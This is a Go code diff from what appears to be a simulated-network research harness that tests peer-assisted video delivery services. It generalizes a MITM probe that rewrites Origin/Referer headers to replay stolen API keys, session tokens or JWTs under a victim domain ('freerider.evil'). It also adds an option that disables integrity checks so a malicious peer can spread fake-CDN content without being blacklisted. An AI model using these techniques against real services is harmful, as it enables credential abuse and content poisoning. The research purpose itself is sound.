@@ -60,16 +60,25 @@ func CrossDomain(ctx context.Context, host *netsim.Host, server netip.AddrPort, 
 	})
 }
 
-// DomainSpoof runs the domain-spoofing test: an unmodified join flows
-// through a MITM proxy that rewrites Origin/Referer to the victim
-// domain. proxyHost must be a host the attacker controls.
-func DomainSpoof(ctx context.Context, attacker, proxyHost *netsim.Host, server netip.AddrPort, stolenKey, victimDomain string) (bool, error) {
+// SpoofedJoinProbe routes an arbitrary join through a MITM proxy that
+// rewrites Origin/Referer to the victim domain — the generalized
+// domain-spoofing primitive the replay matrix uses for every credential
+// style (API key, session token, JWT). proxyHost must be a host the
+// attacker controls.
+func SpoofedJoinProbe(ctx context.Context, attacker, proxyHost *netsim.Host, server netip.AddrPort, victimDomain string, req signal.JoinRequest) (bool, error) {
 	proxy := mitm.NewSignalProxy(proxyHost, server, mitm.SpoofOrigin(victimDomain))
 	if err := proxy.Serve(ctx, 8443); err != nil {
 		return false, err
 	}
 	defer proxy.Close()
-	return JoinProbe(ctx, attacker, netip.AddrPortFrom(proxyHost.VisibleAddr(), 8443), signal.JoinRequest{
+	return JoinProbe(ctx, attacker, netip.AddrPortFrom(proxyHost.VisibleAddr(), 8443), req)
+}
+
+// DomainSpoof runs the domain-spoofing test: an unmodified join flows
+// through a MITM proxy that rewrites Origin/Referer to the victim
+// domain. proxyHost must be a host the attacker controls.
+func DomainSpoof(ctx context.Context, attacker, proxyHost *netsim.Host, server netip.AddrPort, stolenKey, victimDomain string) (bool, error) {
+	return SpoofedJoinProbe(ctx, attacker, proxyHost, server, victimDomain, signal.JoinRequest{
 		APIKey:    stolenKey,
 		Origin:    "https://freerider.evil", // rewritten in flight
 		Video:     "attacker-stream",
@@ -198,6 +207,13 @@ type PollutionParams struct {
 	Pollute mitm.PolluteFunc
 	// Segments bounds the malicious peer's playback.
 	Segments int
+	// Insecure strips integrity verification from the malicious peer's
+	// own client (pdnclient.Config.InsecureNoVerify). Against providers
+	// that sign manifests the attacker must do this — an unmodified SDK
+	// would reject the fake CDN's bytes before caching them — and it
+	// also keeps the attacker from filing IM reports that would get it
+	// blacklisted for contradicting the ground truth.
+	Insecure bool
 	// Obs and Tracer instrument the fake CDN and the malicious peer;
 	// nil disables.
 	Obs    *obs.Registry
@@ -223,22 +239,23 @@ func LaunchPollution(ctx context.Context, p PollutionParams) (*Pollution, error)
 		return nil, err
 	}
 	mal, err := pdnclient.New(pdnclient.Config{
-		Host:        p.MaliciousHost,
-		Network:     p.Network,
-		SignalAddr:  p.SignalAddr,
-		STUNAddr:    p.STUNAddr,
-		CDNBase:     "http://" + p.FakeCDNHost.VisibleAddr().String() + ":80",
-		APIKey:      p.APIKey,
-		Origin:      p.Origin,
-		Token:       p.Token,
-		VideoURL:    p.VideoURL,
-		Video:       p.Video,
-		Rendition:   p.Rendition,
-		MaxSegments: p.Segments,
-		Linger:      5 * time.Minute,
-		Seed:        666,
-		Obs:         p.Obs,
-		Tracer:      p.Tracer,
+		Host:             p.MaliciousHost,
+		Network:          p.Network,
+		SignalAddr:       p.SignalAddr,
+		STUNAddr:         p.STUNAddr,
+		CDNBase:          "http://" + p.FakeCDNHost.VisibleAddr().String() + ":80",
+		APIKey:           p.APIKey,
+		Origin:           p.Origin,
+		Token:            p.Token,
+		VideoURL:         p.VideoURL,
+		Video:            p.Video,
+		Rendition:        p.Rendition,
+		MaxSegments:      p.Segments,
+		Linger:           5 * time.Minute,
+		Seed:             666,
+		InsecureNoVerify: p.Insecure,
+		Obs:              p.Obs,
+		Tracer:           p.Tracer,
 	})
 	if err != nil {
 		fake.Close()
